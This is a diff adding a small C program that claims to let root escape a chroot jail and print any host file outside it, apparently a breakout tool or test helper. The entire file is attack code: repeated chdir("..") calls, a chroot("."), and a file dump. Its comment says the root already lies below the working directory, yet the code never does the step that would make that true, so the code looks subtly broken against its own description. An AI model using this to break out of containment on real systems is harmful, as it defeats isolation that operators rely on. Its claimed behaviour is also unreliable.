@@ -1,0 +1,26 @@
+/* usage: escape PATH
+ * Run by root in a chroot, prints the file PATH of the host, outside. It needs no /proc and no mount. */
+#include <stdio.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+int main(int argc, char **argv) {
+  if (argc != 2) return 125;
+
+  /* The root is below now, and we stand above it: going up, the kernel never meets the root where it would stop. */
+  for (int i = 0; i < 64; i++) {
+    if (chdir("..") == -1) perror("escape: chdir ..");
+  }
+  if (chroot(".") == -1) {
+    perror("escape: chroot .");
+    return 1;
+  }
+
+  FILE *file = fopen(argv[1], "r");
+  if (file == NULL) {
+    perror(argv[1]);
+    return 1;
+  }
+  for (int c; (c = getc(file)) != EOF;) putchar(c);
+  return 0;
+}
